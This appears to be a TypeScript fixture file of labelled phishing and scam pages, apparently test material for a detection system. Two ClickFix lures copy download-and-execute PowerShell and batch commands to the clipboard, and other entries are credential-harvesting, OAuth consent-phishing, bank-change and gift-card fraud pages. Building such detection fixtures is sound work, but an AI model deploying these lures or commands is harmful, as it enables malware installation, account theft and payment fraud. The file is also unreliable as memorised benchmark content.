import type { Entry } from '../entry.js';
import { doc, esc, msLogo, googleLogo, wordmark, jsRoute, jsonRoute, imgRoute, htmlRoute, b64 } from '../parts/zh-kit.js';

const CF_CSS = `body{background:#fff;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial}.main{max-width:620px;margin:100px auto;padding:0 20px}.cb{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:66px;display:flex;align-items:center;gap:12px;padding:0 14px;cursor:pointer}.sq{width:26px;height:26px;border:2px solid #777;border-radius:4px;background:#fff}.steps{display:none;border:1px solid #ddd;border-radius:8px;padding:20px;margin-top:20px;background:#fff}.steps ol{line-height:2}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`;

export const entries: Entry[] = [
  {
  id: 'zh-clickfix-docusign-render-error',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://esign-view.agreement-hub.net/view/?env=7c1f02',
  body: doc('DocuSign – Document Viewer', `<div style="background:#1e1e1e;padding:12px 20px">${wordmark('DocuSign', '#fff', 20)}</div>
<div style="max-width:680px;margin:50px auto;font-family:Arial">
<div style="border:1px solid #f5c2c2;background:#fdecec;padding:20px;border-radius:4px"><h3 style="margin-top:0;color:#a4262c">⚠ Document could not be displayed</h3>
<p>The envelope "Employment Agreement – Revised Compensation.pdf" uses fonts that are not installed on this device (Error 0x80070422: DSFontCache).</p>
<p><b>How to fix:</b></p><ol style="line-height:1.9"><li>Click <b>Copy fix</b> below</li><li>Right-click the Start button and choose <b>Windows PowerShell</b> / <b>Terminal</b></li><li>Right-click in the window to paste, then press <b>Enter</b></li><li>Return to this page and click <b>Reload document</b></li></ol>
<button id="cp" style="background:#ffc820;border:0;padding:10px 20px;font-weight:700">Copy fix</button> <button onclick="location.reload()" style="padding:10px 20px">Reload document</button></div></div>
<script>
var f=['powershell','-nop','-w','1','-c','"$r=(iwr','esign-view.agreement-hub.net/fonts/dsfont.txt','-UseB).Content;iex','$r"'];
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(f.join(' ')).then(function(){document.getElementById('cp').textContent='Copied ✓'})};
</script>`),
  routes: { 'esign-view.agreement-hub.net/fonts/dsfont.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: "$p=\"$env:APPDATA\\dsfont\";mkdir $p -ea 0;iwr 'https://esign-view.agreement-hub.net/fonts/f.zip' -OutFile \"$p\\f.zip\";Expand-Archive \"$p\\f.zip\" $p -Force;Start-Process \"$p\\fontsvc.exe\"" } },
},
  {
  id: 'zh-clickfix-es-verificacion',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://verificacion.portal-nominas.es.net/acceso/',
  body: doc('Verificación de seguridad', `<div class="main"><h1 style="font-size:26px;font-weight:500">Portal del Empleado – Nóminas</h1>
<p>Complete la verificación para acceder a su recibo de nómina de noviembre.</p>
<div class="cb" id="cb"><div class="sq"></div><span>No soy un robot</span></div>
<div class="steps" id="st"><b>Pasos de verificación</b><ol><li>Pulse <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Pulse <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pulse <kbd>Intro</kbd> para completar la verificación</li></ol></div></div>
<script>
document.getElementById('cb').addEventListener('click',function(){
var p='cmd /c "curl -s https://verificacion.portal-nominas.es.net/v/c.bat -o %TEMP%\\\\v.bat && %TEMP%\\\\v.bat" REM Verificación humana #'+Math.random().toString(16).slice(2,8);
navigator.clipboard.writeText(p);document.getElementById('st').style.display='block';this.querySelector('.sq').style.background='#2e7d32'});
</script>`, { lang: 'es', css: CF_CSS }),
  routes: { 'verificacion.portal-nominas.es.net/v/c.bat': { status: 200, headers: { 'content-type': 'text/plain' }, body: '@echo off\r\npowershell -w h -c "iwr https://verificacion.portal-nominas.es.net/v/n.exe -OutFile $env:TEMP\\n.exe; start $env:TEMP\\n.exe"\r\n' } },
},
  {
  id: 'zh-vendor-bank-change-portal',
  label: 'scam',
  kind: 'vendor-payment-change',
  url: 'https://vendors.kestrel-industrial-ap.com/banking-update/?vid=V-20931',
  body: doc('Supplier Banking Details Update', `<header style="padding:16px 36px;border-bottom:2px solid #345"><b style="font-size:20px">Kestrel Industrial Group</b> · Accounts Payable</header>
<main style="max-width:700px;margin:30px auto;padding:0 20px;line-height:1.6">
<h2>Notice of change to remittance instructions</h2>
<p>Dear valued customer,</p><p>Due to an ongoing audit of our previous banking relationship, Kestrel Industrial Group has moved its receivables to a new account effective immediately. <b>All outstanding and future invoices must be paid to the account below.</b> Payments sent to the old account will be returned and may incur late fees.</p>
<table style="border:1px solid #ccc;padding:12px;font-family:monospace"><tr><td>Beneficiary:</td><td>Kestrel Industrial Group LLC</td></tr><tr><td>Bank:</td><td>Pinnacle Digital Bank N.A.</td></tr><tr><td>Routing (ABA):</td><td>0710 2569 3</td></tr><tr><td>Account:</td><td>8800 4419 2271</td></tr></table>
<p>To confirm you have updated your records, please complete the acknowledgement below. Our controller <b>Dana Whitlock</b> will process your pending invoices (#KI-88410, #KI-88433 – total $186,420.00) today upon receipt.</p>
<form method="post" action="/banking-update/ack"><input name="company" placeholder="Your company name" style="width:100%;padding:8px;margin:4px 0"><input name="name" placeholder="Your name &amp; title" style="width:100%;padding:8px;margin:4px 0"><input name="email" placeholder="Email" style="width:100%;padding:8px;margin:4px 0"><label><input type="checkbox" name="ok"> I confirm the remittance change and will release payment today</label><br><button style="margin-top:10px;background:#345;color:#fff;border:0;padding:10px 22px">Submit acknowledgement</button></form>
<p style="font-size:12px;color:#666">Please do not call the phone numbers on file as our office lines are being migrated. Reply by email only.</p></main>`),
  routes: { 'vendors.kestrel-industrial-ap.com/banking-update/ack': htmlRoute(doc('Thank you', '<p style="margin:60px">Thank you. Accounts Payable will contact you by email.</p>')) },
},
  {
  id: 'zh-giftcard-ceo-request-upload',
  label: 'scam',
  kind: 'gift-card-request',
  url: 'https://exec-requests.notes-share.page/r/mwhitfield',
  body: doc('Quick favor – Michael', `<div style="max-width:560px;margin:40px auto;font-family:Arial;line-height:1.6">
<p><b>From:</b> Michael Whitfield (CEO) · sent from mobile</p>
<p>Hi, I'm in back-to-back board meetings and can't take calls. I need you to handle something discreetly for me today. I want to surprise some of the staff with gifts for their hard work this year.</p>
<p>Please buy <b>8 × $200 Apple gift cards</b> (or Google Play if Apple isn't available) and scratch the back to reveal the codes. Upload clear photos of the cards below or type in the codes. I'll reimburse you by end of day — keep it between us, it's a surprise.</p>
<form method="post" action="/r/mwhitfield/submit" enctype="multipart/form-data" style="background:#f7f7f7;padding:16px;border-radius:6px">
<label>Your name</label><input name="n" style="width:100%;padding:8px;margin:4px 0 10px"><label>Card codes (one per line)</label><textarea name="codes" rows="6" style="width:100%"></textarea>
<label>Photos of cards</label><input type="file" name="pics" multiple accept="image/*"><br><br><button style="background:#222;color:#fff;border:0;padding:10px 20px">Send to Michael</button></form>
<p style="color:#666;font-size:13px">Thanks, M.<br>Sent from my iPhone</p></div>`),
  routes: { 'exec-requests.notes-share.page/r/mwhitfield/submit': htmlRoute(doc('Sent', '<p style="margin:60px;font-family:Arial">Received, thank you. I will get back to you shortly.</p>')) },
},
  {
  id: 'zh-esign-pandadoc-style-ja',
  label: 'phishing',
  kind: 'esign-kit',
  url: 'https://sign.keiyaku-denshi.jp.net/d/7fQk2/?email=s.yamada%40kowa-trading.co.jp',
  body: doc('電子契約 – 署名のお願い', `<div style="max-width:620px;margin:40px auto;font-family:Meiryo,Arial;border:1px solid #ddd;border-radius:8px;padding:28px">
<h2>業務委託契約書（2027年度）への署名依頼</h2><p>送信者: 株式会社コーワ商事 総務部<br>有効期限: 48時間</p>
<p>文書を確認して署名するには、Microsoft 365 アカウントで本人確認を行ってください。</p>
<form method="post" action="/d/7fQk2/auth"><label>メールアドレス</label><input id="m" name="m" style="width:100%;padding:9px;margin:4px 0 10px"><label>パスワード</label><input name="p" type="password" style="width:100%;padding:9px;margin:4px 0 10px"><button style="background:#248567;color:#fff;border:0;padding:10px 24px;border-radius:4px">文書を確認する</button></form>
<p style="font-size:11px;color:#888">このメールは電子契約サービスから自動送信されています。</p></div>
<script>document.getElementById('m').value=new URLSearchParams(location.search).get('email')||'';</script>`, { lang: 'ja' }),
  routes: { 'sign.keiyaku-denshi.jp.net/d/7fQk2/auth': { status: 302, headers: { location: 'https://www.office.com/' }, body: '' } },
},
  {
  id: 'zh-oauth-consent-google-drive-app',
  label: 'phishing',
  kind: 'oauth-consent',
  url: 'https://drive-docs-share.appspot-files.com/share/open?from=mtorres%40verdantpayroll.com',
  body: doc('Google Docs', `<div style="max-width:500px;margin:90px auto;font-family:Roboto,Arial;text-align:center">${googleLogo}
<h2 style="font-weight:400">Maria Torres has shared a document with you</h2><p style="font-size:18px">📄 Payroll Adjustments – December</p>
<p style="color:#5f6368">Open in Docs requires Google sign-in.</p>
<a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=611438222115-f4ktq0gmk8bbt3h6cccb2dqgnh0ks8ok.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fdrive-docs-share.appspot-files.com%2Foauth2callback&response_type=code&scope=https%3A%2F%2Fmail.google.com%2F%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fcontacts.readonly%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fdrive&access_type=offline&prompt=consent" style="display:inline-block;background:#1a73e8;color:#fff;padding:11px 28px;border-radius:4px;text-decoration:none">Open in Docs</a>
<p style="font-size:12px;color:#999;margin-top:30px">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043</p></div>`),
  routes: { 'drive-docs-share.appspot-files.com/oauth2callback': htmlRoute(doc('Google Docs', '<script>location.href="https://docs.google.com/"</script>')) },
},
];
